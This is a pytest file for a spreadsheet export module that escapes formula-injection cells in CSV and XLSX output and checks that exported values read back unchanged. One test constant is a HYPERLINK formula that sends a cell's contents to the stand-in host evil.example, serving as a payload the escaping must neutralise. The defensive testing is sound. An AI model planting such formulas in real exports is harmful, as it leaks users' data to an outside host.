"""Exported cells cannot be formulas, and an exported cell reads back as it was."""

import csv
import io

import pytest

from resolvers.spreadsheets import CsvSheet, csv_text_cell, safe_cell, unescape_cell, xlsx_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&G2,"详情")'


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+86 139", "'+86 139"),
        ("-1-101", "'-1-101"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),
        ("'=already", "''=already"),
        ("张三", "张三"),
        ("13912345678", "13912345678"),
        ("520302********0014", "520302********0014"),
        ("1990-01-01", "1990-01-01"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, exported: str) -> None:
    assert safe_cell(value) == exported
    assert unescape_cell(safe_cell(value)) == value


def test_a_hand_written_apostrophe_is_kept_on_import() -> None:
    assert unescape_cell("'abc") == "'abc"


def test_every_cell_of_a_sheet_goes_through_the_escape() -> None:
    sheet = CsvSheet(["name", "=header"])
    sheet.add_rows([[HYPERLINK, "-5"], ["王五", "12"]])
    rows = list(csv.reader(io.StringIO(sheet.text())))
    assert rows == [["name", "'=header"], ["'" + HYPERLINK, "'-5"], ["王五", "12"]]


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("520302199001011230", "\t520302199001011230"),
        ("08515551234", "\t08515551234"),
        ("3-12", "\t3-12"),
        ("-1-101", "'-1-101"),  # neutralised already: the apostrophe keeps it text
        ("\t=1+1", "'\t=1+1"),  # a tab of the value's own is escaped, never taken as ours
        ("", ""),
    ],
)
def test_digits_stay_text_in_csv_behind_a_tab(value, exported):
    assert csv_text_cell(value) == exported
    # and an import (which strips cells) reads it as it reads the cell without the tab
    assert unescape_cell(csv_text_cell(value).strip()) == unescape_cell(safe_cell(value).strip())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("\x01=1+1", "'=1+1"),  # what XLSX cannot hold goes first, then the formula check
        ("a\x00b", "ab"),
        ("张三", "张三"),
    ],
)
def test_xlsx_cells_are_neutral_and_writable(value, cell):
    assert xlsx_cell(value) == cell
